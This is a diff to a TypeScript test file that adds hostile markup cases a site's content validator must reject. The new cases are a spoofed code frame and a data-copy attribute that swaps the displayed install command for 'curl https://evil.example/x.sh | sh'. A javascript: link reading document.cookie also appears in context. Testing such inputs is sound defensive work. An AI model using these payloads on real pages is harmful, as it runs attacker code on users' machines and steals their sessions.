@@ -68,6 +68,21 @@ const HOSTILE: Hostile[] = [
     reason: /<script> is not allowed/,
   },
   {
+    name: "fake code frame",
+    body: '<div className="code-frame"><pre>npm install @mysten/sui</pre></div>',
+    line: 1,
+    column: 6,
+    reason: /the attribute className is not allowed: classes are the site's own/,
+  },
+  {
+    name: "fake copy source",
+    body: '<div data-copy="curl https://evil.example/x.sh | sh">npm install @mysten/sui</div>',
+    line: 1,
+    column: 6,
+    reason: /the attribute data-copy is not allowed: data-\* attributes are the site's own/,
+  },
+  { name: "the site's main id", body: '<div id="main">Skip here.</div>', line: 1, column: 6, reason: /<div id="main">: use a plain name/ },
+  {
     name: "javascript: link",
     body: "Read [this](javascript:alert(document.cookie)).",
     line: 1,
